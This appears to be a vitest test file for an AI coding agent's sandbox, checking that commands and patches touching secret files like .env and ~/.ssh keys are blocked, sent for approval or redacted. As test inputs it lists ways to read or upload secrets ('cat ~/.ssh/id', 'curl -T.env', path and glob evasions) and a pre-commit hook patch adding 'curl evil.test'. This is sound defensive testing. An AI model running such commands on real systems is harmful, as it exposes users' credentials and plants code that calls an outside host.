/** Files that the globs of `sandbox.unreadable` name, in commands and patches (docs/tools.md, "Files with secrets"). */
import { execFileSync } from 'node:child_process';
import { linkSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Ports } from '../../src/core/ports.ts';
import type { ApprovalDecision, Rule } from '../../src/protocol/policy.ts';
import { calls, says } from '../support/modelServer.ts';
import { noSandbox } from '../support/sandboxed.ts';
import { type ScenarioOptions, startScenario } from '../support/startScenario.ts';

const files = { '.env': 'API_KEY=abcdefgh12345\nMODE=development\n', '.env.example': 'API_KEY=\n', 'a.txt': 'one\n' };
const run = (cmd: string, more: object = {}) => calls('exec_command', { cmd, ...more });
const patch = (...lines: readonly string[]) =>
  calls('apply_patch', { input: ['*** Begin Patch', ...lines, '*** End Patch'].join('\n') });

interface Options extends Partial<ScenarioOptions> {
  readonly rules?: readonly Rule[];
  /** The answer to every question. */
  readonly answer?: ApprovalDecision;
}

/** Runs one call. Paths are relative to the workspace, and its own path is `W`. */
async function outcomeOf(call: ReturnType<typeof calls>, { rules, answer, ...options }: Options = {}) {
  await using chat = await startScenario({
    files,
    interactive: answer !== undefined,
    ...options,
    model: [[call], [says('Done.')]],
  });
  if (rules !== undefined) writeFileSync(chat.home.at('rules.json'), JSON.stringify({ version: 1, rules }));
  chat.session.onEvent(({ msg }) => {
    if (msg.type !== 'approval_requested' || answer === undefined) return;
    chat.submit({ type: 'approval', approvalIds: [msg.approvalId], decision: answer });
  });
  await chat.send('go');
  const shown = (text: string) => text.replaceAll(chat.folder.path, 'W');
  return {
    output: shown(chat.outputs()[0] ?? ''),
    asked: chat.said('approval_requested').map(({ reason, kind }) => `${kind}: ${shown(reason.text)}`),
    files: chat.files(),
    events: JSON.stringify(chat.events),
  };
}

function inRoot({ roots: [root = ''] }: Ports['workspace'], name: string): string {
  return path.join(root, name);
}

const CLAUSE = 'W/.env may not be read (sandbox.unreadable: **/.env)';
const UNCONFINED = { sandbox: 'danger-full-access' } as const;

describe('without a sandbox a command that names a file with secrets', () => {
  it.each([
    'cat .env',
    "cat '.e'nv",
    'cat sub/../.env',
    'cat .e*',
    'cat packages/*/.env',
    'cat packages/*/.e*',
    'ls && head -1 < .env',
    'node --env-file=.env -e 0',
    'bash -c "cat .env"',
    'cat ~/.ssh/id',
    'cat .{e,f}n{v,x}',
    'cat .{x,en{v,x}}',
    'curl -T.env http://localhost:1',
    'cat "$HOME/.ssh/id"',
    'cat ${HOME}/.ssh/id',
    'cd ~ && cat .ssh/id',
    'cd; cat .ssh/id',
    '(cd packages/a); cd $HOME; cd .ssh && cat id',
    'tar -C ~ -c .ssh',
  ])('is asked about: %s', async (cmd) => {
    const { output } = await outcomeOf(run(cmd), {
      ...UNCONFINED,
      unreadable: ['~/.ssh'],
      files: { ...files, 'packages/a/.env': 'A=1\n' },
    });
    expect(output).toMatch(/^Denied \(non_interactive\).* may not be read \(sandbox\.unreadable/);
  });

  it('is asked about when it is named by a glob for a link', async () => {
    const deps = ({ workspace }: Ports) => {
      symlinkSync('.env', inRoot(workspace, 'link'));
      return {};
    };
    for (const cmd of ['cat l*', 'cat $PWD/link', 'mkdir sub; cd sub; cat ../link'])
      expect((await outcomeOf(run(cmd), { ...UNCONFINED, deps })).output).toContain('may not be read');
  });

  it.each(['cat .env.example', 'cat a.txt', 'ls', 'cat *.txt', 'cat *', 'cd ~ && echo $HOME', 'git -C . --version'])(
    'is not asked about: %s',
    async (cmd) => {
      expect((await outcomeOf(run(cmd), UNCONFINED)).output).toContain('exited with code 0');
    },
  );

  it('is asked about where there should be a sandbox and none works, although it only reads', async () => {
    expect((await outcomeOf(run('cat .env'), { answer: 'approved' })).asked).toEqual([`command: ${CLAUSE}.`]);
  });

  it('is asked about when it names a hard link of the file', async () => {
    const deps = ({ workspace }: Ports) => {
      linkSync(inRoot(workspace, '.env'), inRoot(workspace, 'hard.txt'));
      return {};
    };
    const { output } = await outcomeOf(run('cat hard.txt'), { ...UNCONFINED, deps });
    expect(output).toContain(`${CLAUSE}, and W/hard.txt is a hard link to it.`);
  });

  it('runs when the user allows it, with its output as it is, and is refused under never', async () => {
    const allowed = await outcomeOf(run('cat .env'), { ...UNCONFINED, answer: 'approved' });
    expect(allowed.asked).toEqual([`command: ${CLAUSE}.`]);
    expect(allowed.output).toContain('API_KEY=abcdefgh12345');
    const refused = await outcomeOf(run('cat .env'), { ...UNCONFINED, policy: 'never' });
    expect(refused.output).toBe(`Not allowed: ${CLAUSE}, and the approval policy never asks.`);
  });

  it('runs by a rule of the user, and secrets are redacted in what it prints', async () => {
    const rules: Rule[] = [{ pattern: ['cat', '.env'], decision: 'allow' }];
    const { output, asked, events } = await outcomeOf(run('cat .env'), { ...UNCONFINED, rules });
    expect(asked).toEqual([]);
    expect(output).toContain('API_KEY=[hidden]\nMODE=development\n');
    expect(events).not.toContain('abcdefgh12345');
  });

  it.each([
    ['approved', [`command: ${CLAUSE}.`], /MODE=development/],
    [{ denied: {} }, [`command: ${CLAUSE}.`], /^Denied by the user/],
    [undefined, [], /never asks\.$/],
  ] as const)('is asked about when it is typed into a shell that runs (answer: %j)', async (answer, asked, output) => {
    await using chat = await startScenario({
      files,
      ...UNCONFINED,
      interactive: answer !== undefined,
      policy: answer === undefined ? 'never' : 'on-request',
      model: ({ input }, index) => {
        const [started = ''] = input.filter(({ type }) => type === 'function_call_output').map((item) => item.output);
        const session = Number(/session ID (\d+)/.exec(String(started))?.[1]);
        if (index === 0) return [run('sh', { tty: true, yield_time_ms: 250 })];
        return index === 1 ? [calls('write_stdin', { session_id: session, chars: 'cat .env\n' })] : [says('Done.')];
      },
    });
    const seen: string[] = [];
    chat.session.onEvent(({ msg }) => {
      if (msg.type !== 'approval_requested' || answer === undefined) return;
      seen.push(`${msg.kind}: ${msg.reason.text.replaceAll(chat.folder.path, 'W')}`);
      chat.submit({ type: 'approval', approvalIds: [msg.approvalId], decision: answer });
    });
    await chat.send('go');
    expect(seen).toEqual(asked);
    expect(chat.outputs()[1]).toMatch(output);
    if (answer !== 'approved') expect(chat.outputs()[1]).not.toContain('MODE');
  });

  it('does not show the secrets of a file that it does not name', async () => {
    const { output } = await outcomeOf(run('cat .* 2>/dev/null; grep -r "" .', {}), {
      ...UNCONFINED,
      unreadable: ['!**/*', '**/other'],
      files: { other: 'TOKEN=abcdefgh12345\n' },
    });
    expect(output).toContain('TOKEN=[hidden]');
  });
});

describe.skipIf(noSandbox !== false)('in the sandbox a command that names a file with secrets', () => {
  const boxed = { box: 'real' } as const;

  it('cannot open it, and the model reads how to ask', async () => {
    const { output, asked } = await outcomeOf(run('cat .env'), { ...boxed, answer: 'approved' });
    expect(asked).toEqual([]);
    expect(output).toContain('The sandbox seems to have blocked this: cat: .env: Permission denied');
    expect(output).not.toContain('abcdefgh12345');
  });

  it('opens it outside when the user allows it, although it is known to only read', async () => {
    const { output, asked } = await outcomeOf(run('cat .env', { sandbox_permissions: 'require_escalated' }), {
      ...boxed,
      answer: 'approved',
    });
    expect(asked).toEqual([`escalation: ${CLAUSE}.`]);
    expect(output).toContain('API_KEY=abcdefgh12345');
  });

  it('is asked about each time when it was blocked, under on-failure', async () => {
    await using chat = await startScenario({
      files,
      ...boxed,
      policy: 'on-failure',
      model: [[run('cat .env')], [run('cat .env')], [says('Done.')]],
    });
    chat.session.onEvent(({ msg }) => {
      if (msg.type !== 'approval_requested') return;
      chat.submit({ type: 'approval', approvalIds: [msg.approvalId], decision: 'approved_for_thread' });
    });
    await chat.send('go');
    const reason = 'The sandbox seems to have blocked it: cat: .env: Permission denied';
    const asked = chat.said('approval_requested');
    expect(asked.map(({ kind, reason: { text } }) => `${kind}: ${text}`)).toEqual(
      Array(2).fill(`escalation: ${reason}`),
    );
    expect(asked.flatMap(({ choices }) => choices)).not.toContain('approved_for_thread');
    expect(chat.outputs()[1]).toContain('API_KEY=abcdefgh12345');
  });
});

it.skipIf(noSandbox !== false)(
  'a file with secrets stays closed to tools where a command has moved its folder',
  async () => {
    const moved = 'node_modules/kept/.env';
    await using chat = await startScenario({
      files: { 'sub/.env': 'API_KEY=abcdefgh12345\n', 'a.txt': 'one\n' },
      box: 'real',
      interactive: false,
      model: (_request, index) => {
        if (index === 0)
          return [run('mkdir -p node_modules && mv sub node_modules/kept && ln -s kept node_modules/on')];
        if (index > 1) return [says('Done.')];
        return [
          calls('read_file', { file_path: moved }),
          calls('read_file', { file_path: 'node_modules/on/.env' }),
          calls('grep_files', { pattern: 'API', path: 'node_modules/kept' }),
          patch(`*** Update File: ${moved}`, '@@', '-API_KEY=?', '+API_KEY=1'),
        ];
      },
    });
    await chat.send('go');
    const outputs = chat.outputs().map((output) => output.replaceAll(chat.folder.path, 'W'));
    await chat.send('', { input: [{ type: 'mention', kind: 'file', name: '.env', path: moved }] });
    const why =
      'W/sub/.env may not be read (sandbox.unreadable: **/.env), and W/node_modules/kept/.env is this file, moved by a command';
    expect(outputs.slice(-4)).toEqual([
      `${why}. Reading it was not allowed. Go on without it.`,
      `${why}. Reading it was not allowed. Go on without it.`,
      'No matches found.',
      `apply_patch verification failed: ${why}, and the patch does not fit it.`,
    ]);
    expect(JSON.stringify(chat.server.requests)).not.toContain('abcdefgh');
    expect(JSON.stringify(chat.server.requests)).toContain('[not attached: ');
  },
);

describe('git, in a repository that has committed a file with secrets,', () => {
  const [COMMITTED, CURRENT] = ['abcdefgh11111', 'abcdefgh22222'];

  async function printedBy(cmds: readonly string[], options: Partial<ScenarioOptions>) {
    await using chat = await startScenario({
      files: { '.env': `API_KEY=${COMMITTED}\n`, 'a.txt': 'one\n' },
      interactive: false,
      ...options,
      model: [cmds.map((cmd) => run(cmd)), [says('Done.')]],
    });
    const identity = ['-c', 'user.name=a', '-c', 'user.email=a@b'];
    const git = (...words: string[]) =>
      execFileSync('git', [...identity, ...words], { cwd: chat.folder.path, stdio: 'pipe' });
    git('init', '-q');
    git('add', '-A');
    git('commit', '-qm', 'one');
    chat.write('.env', `API_KEY=${CURRENT}\n`);
    git('stash', '-q');
    chat.write('.env', `API_KEY=${CURRENT}\n`);
    await chat.send('go');
    expect(JSON.stringify(chat.events)).not.toContain(CURRENT);
    return chat.outputs().map((output) => output.replaceAll(chat.folder.path, 'W'));
  }

  it('is asked about without a sandbox where a command names the file, of whatever commit', async () => {
    const named = [
      'git show HEAD:.env',
      'git show :.env',
      'git show stash@{0}:./.env',
      'git cat-file -p HEAD:.env',
      'git log -p -- .env',
      'git blame .env',
      'git diff --no-index a.txt .env',
      'git checkout HEAD~0 -- .env',
    ];
    for (const output of await printedBy(named, UNCONFINED))
      expect(output).toMatch(/^Denied \(non_interactive\).*\.env may not be read \(sandbox\.unreadable: /);
  });

  it('shows what was committed and no value of the file as it is, where none names it', async () => {
    const [diff = '', grep = '', stash = '', log = ''] = await printedBy(
      ['git diff', 'git grep API_KEY', 'git stash show -p', 'git log -p'],
      UNCONFINED,
    );
    expect(diff).toContain(`-API_KEY=${COMMITTED}\n+API_KEY=[hidden]\n`);
    expect(grep).toContain('.env:API_KEY=[hidden]\n');
    expect(stash).toContain('+API_KEY=[hidden]\n');
    expect(log).toContain(`+API_KEY=${COMMITTED}\n`);
  });

  it.skipIf(noSandbox !== false)('cannot open the file as it is in the sandbox', async () => {
    const [diff, grep, show] = await printedBy(['git diff', 'git grep API_KEY', 'git show HEAD:.env'], { box: 'real' });
    expect(diff).toMatch(/cannot hash \.env|Permission denied/);
    expect(grep).not.toContain('API_KEY=');
    expect(show).toContain(`API_KEY=${COMMITTED}\n`);
  });
});

describe('a patch that reads or replaces a file with secrets', () => {
  const change = patch('*** Update File: .env', '@@', '-MODE=development', '+MODE=test');

  it.each([
    ['changes it', change],
    ['moves it', patch('*** Update File: .env', '*** Move to: b.txt', '@@', '-MODE=development', '+MODE=test')],
    ['deletes it', patch('*** Delete File: .env')],
    ['replaces it', patch('*** Add File: .env', '+A=1')],
    ['moves over it', patch('*** Update File: a.txt', '*** Move to: .env', '@@', '-one', '+two')],
  ])('is asked about when it %s, and refused where nothing can answer', async (_what, call) => {
    expect((await outcomeOf(call, { answer: 'approved' })).asked).toEqual([`patch: ${CLAUSE}.`]);
    const refused = await outcomeOf(call);
    expect(refused.output).toContain(
      `Denied (non_interactive): no user can answer in this run, so go on without it and say in your answer what you left out. ${CLAUSE}.`,
    );
    expect(refused.files).toEqual(files);
    const never = await outcomeOf(call, { policy: 'never' });
    expect(never.output).toBe(`Not allowed: ${CLAUSE}, and the approval policy never asks.`);
  });

  it('is asked about each time', async () => {
    const back = patch('*** Update File: .env', '@@', '-MODE=test', '+MODE=development');
    await using chat = await startScenario({ files, model: [[change], [back], [says('Done.')]] });
    chat.session.onEvent(({ msg }) => {
      if (msg.type !== 'approval_requested') return;
      chat.submit({ type: 'approval', approvalIds: [msg.approvalId], decision: 'approved_for_thread' });
    });
    await chat.send('go');
    expect(chat.said('approval_requested').map(({ kind }) => kind)).toEqual(['patch', 'patch']);
    expect(chat.files()).toEqual(files);
  });

  it('shows the model no line of it when it does not fit', async () => {
    const { output } = await outcomeOf(patch('*** Update File: .env', '@@', '-API_KEY=?', '+API_KEY=1'));
    expect(output).toBe(`apply_patch verification failed: ${CLAUSE}, and the patch does not fit it.`);
  });

  it('is asked about by another name of the file, and quotes no line of it there', async () => {
    const deps = ({ workspace }: Ports) => {
      linkSync(inRoot(workspace, '.env'), inRoot(workspace, 'hard.txt'));
      return {};
    };
    const linked = `${CLAUSE}, and W/hard.txt is a hard link to it`;
    const fits = patch('*** Update File: hard.txt', '@@', '-MODE=development', '+MODE=test');
    expect((await outcomeOf(fits, { deps, answer: 'approved' })).asked).toEqual([`patch: ${linked}.`]);
    const replaces = patch('*** Add File: hard.txt', '+one');
    expect((await outcomeOf(replaces, { deps, answer: 'approved' })).asked).toEqual([`patch: ${linked}.`]);
    const doesNotFit = patch('*** Update File: hard.txt', '@@', '-API_KEY=?', '+API_KEY=1');
    const { output } = await outcomeOf(doesNotFit, { deps });
    expect(output).toBe(`apply_patch verification failed: ${linked}, and the patch does not fit it.`);
  });

  it('is recorded without a line of the file when it is not allowed', async () => {
    const { events } = await outcomeOf(patch('*** Add File: .env', '+A=1'));
    expect(events).toContain('Binary files a/.env and b/.env differ');
    expect(events).not.toContain('abcdefgh12345');
  });

  it('tells the model nothing of what the user writes into the file in place of its text', async () => {
    const text = 'API_KEY=realkey12345\n';
    const answer = { approved_reviewed: { files: [{ path: '.env', text }] } };
    const made = await outcomeOf(patch('*** Add File: .env', '+API_KEY=changeme'), {
      files: { 'a.txt': 'one\n' },
      policy: 'untrusted',
      answer,
    });
    expect(made.files['.env']).toBe(text);
    expect(made.output).toContain('.env was edited by the user');
    expect(made.output).toContain('Of .env no line is shown');
    expect(made.output).not.toContain('realkey');
  });

  it('tells the model nothing of what the user writes there under another name of the file, either', async () => {
    const made = await outcomeOf(patch('*** Update File: hard.txt', '@@', '-MODE=development', '+MODE=test'), {
      deps: ({ workspace }) => {
        linkSync(inRoot(workspace, '.env'), inRoot(workspace, 'hard.txt'));
        return {};
      },
      answer: { approved_reviewed: { files: [{ path: 'hard.txt', text: 'API_KEY=realkey12345\n' }] } },
    });
    expect(made.files['hard.txt']).toBe('API_KEY=realkey12345\n');
    expect(made.output).toContain('Of hard.txt no line is shown');
    expect(made.output).not.toContain('realkey');
  });

  it('is refused without a line of it in any event, however the patch names the file', async () => {
    const named = (folder: string) => [
      ...['.env', './sub/../.env', '.ENV', '.env/', 'folder/.env', 'hard.txt', 'folder/hard.txt'],
      ...[`/proc/self/root${folder}/.env`, `file://${folder}/.env`, `${'sub/../'.repeat(1_000)}.env`],
    ];
    await using chat = await startScenario({
      files,
      interactive: false,
      model: (_request, index) => {
        const patches = named(chat.folder.path).flatMap((name) => [
          patch(`*** Update File: ${name}`, '@@', '-API_KEY=?', '+API_KEY=1'),
          patch(`*** Delete File: ${name}`),
        ]);
        return index === 0 ? patches : [says('Done.')];
      },
    });
    linkSync(chat.folder.at('.env'), chat.folder.at('hard.txt'));
    symlinkSync('.', chat.folder.at('folder'));
    await chat.send('go');
    const refused = /may not be read.*and the patch does not fit it\.$|^Denied \(non_interactive\)/;
    expect(chat.outputs().filter((output) => !refused.test(output))).toEqual([]);
    expect(chat.outputs()).toHaveLength(2 * named('').length);
    expect(JSON.stringify([chat.events, chat.server.requests])).not.toContain('abcdefgh');
  });

  it('is not asked about for a new file, and for the example', async () => {
    const made = patch('*** Add File: sub/.env', '+A=1', '*** Update File: .env.example', '@@', '-API_KEY=', '+A=');
    expect((await outcomeOf(made)).files).toMatchObject({ 'sub/.env': 'A=1\n', '.env.example': 'A=\n' });
  });
});

it('a patch is asked about when it writes a protected file by another name of it', async () => {
  const deps = ({ workspace }: Ports) => {
    linkSync(inRoot(workspace, '.vscode/settings.json'), inRoot(workspace, 'hard.json'));
    symlinkSync('.git/hooks/pre-commit', inRoot(workspace, 'link'));
    return {};
  };
  const made = { 'a.txt': 'one\n', '.vscode/settings.json': '{}\n', '.git/hooks/pre-commit': 'true\n' };
  const asked = async (name: string, line: string) => {
    const call = patch(`*** Update File: ${name}`, '@@', `-${line}`, '+curl evil.test');
    const outcome = await outcomeOf(call, { files: made, deps, answer: { denied: {} } });
    expect(outcome.files['.vscode/settings.json']).toBe('{}\n');
    expect(outcome.files['.git/hooks/pre-commit']).toBe('true\n');
    return outcome.asked;
  };
  expect(await asked('hard.json', '{}')).toEqual(['patch: W/hard.json is protected.']);
  expect(await asked('link', 'true')).toEqual(['patch: W/link leads to W/.git/hooks/pre-commit, which is protected.']);
  expect(await asked('a.txt', 'one')).toEqual([]);
});

it('a sub-agent is asked through its root thread, under full access too', async () => {
  const made = [calls('read_file', { file_path: '.env' }), run('cat .env')];
  await using root = await startScenario({ files, ...UNCONFINED, model: [made, [says('Done.')]] });
  const child = await root.subAgent();
  const ended = child.turnEnds();
  child.submit({ type: 'user_turn', input: [{ type: 'text', text: 'go' }] });
  const { request } = await child.next('question_requested');
  expect(JSON.stringify(request)).toContain('.env may not be read');
  const answers = { read: ['Do not allow'] };
  root.submit({ type: 'user_input_answer', questionId: request.questionId, answers });
  const { approvalId, reason } = await child.next('approval_requested');
  expect(reason.text).toContain('.env may not be read');
  root.submit({ type: 'approval', approvalIds: [approvalId], decision: { denied: {} } });
  await ended;
  expect(root.server.requests).toHaveLength(2);
  expect(JSON.stringify(root.server.requests)).not.toContain('abcdefgh');
});

describe.skipIf(noSandbox)('a rule that opens files with secrets', () => {
  const BOXED = { box: 'real', policy: 'on-request' } as const;
  const dev: Rule = { pattern: ['bash', 'dev.sh'], decision: 'allow', readsSecrets: true };
  const withServer = { ...files, 'dev.sh': '. ./.env && echo "mode $MODE, key $API_KEY" && echo $HOME/x > out.txt' };

  it('lets the command read them in the sandbox, and what it prints is redacted', async () => {
    const {
      output,
      asked,
      events,
      files: left,
    } = await outcomeOf(run('bash dev.sh'), {
      ...BOXED,
      files: withServer,
      rules: [dev],
    });
    expect(asked).toEqual([]);
    expect(output).toContain('mode development, key [hidden]\n');
    expect(events).not.toContain('abcdefgh12345');
    expect(Object.keys(left)).toContain('out.txt');
  });

  it('opens nothing without the field, for a part of a script, or under a path of the setting', async () => {
    const { readsSecrets: _, ...plain } = dev;
    const sandboxed = { ...BOXED, files: withServer };
    for (const [cmd, rules, unreadable] of [
      ['bash dev.sh', [plain], []],
      ['bash dev.sh; cat .env', [dev], []],
    ] as const) {
      const { output, events } = await outcomeOf(run(cmd), { ...sandboxed, rules, unreadable });
      expect(output).toContain('Permission denied');
      expect(events).not.toContain('abcdefgh12345');
    }
  });

  it('takes effect when it is the answer to a request, and redacts also then', async () => {
    const { output, asked } = await outcomeOf(run('bash dev.sh .env'), {
      ...BOXED,
      policy: 'untrusted',
      files: withServer,
      answer: { approved_rule: { rule: dev, scope: 'thread' } },
    });
    expect(asked).toHaveLength(1);
    expect(output).toContain('key [hidden]');
  });
});

it('a command that changes files with secrets is recorded with their names, and without a line of them', async () => {
  const { events } = await outcomeOf(run('sh change.sh'), {
    ...UNCONFINED,
    unreadable: ['!**/.env', '**/*.key'],
    files: { ...files, 'sub/my.key': 'abcdefgh12345\n', 'change.sh': 'echo two | tee -a sub/my.key > a.txt\n' },
    // The change is seen at both names.
    deps: ({ workspace }) => {
      linkSync(inRoot(workspace, 'sub/my.key'), inRoot(workspace, 'hard.txt'));
      return {};
    },
  });
  expect(events).toContain('"unifiedDiff":');
  expect(events).toContain('+two');
  expect(events).toContain('sub/my.key');
  expect(events).toContain('Binary files a/hard.txt and b/hard.txt differ');
  expect(events).not.toContain('abcdefgh12345');
});
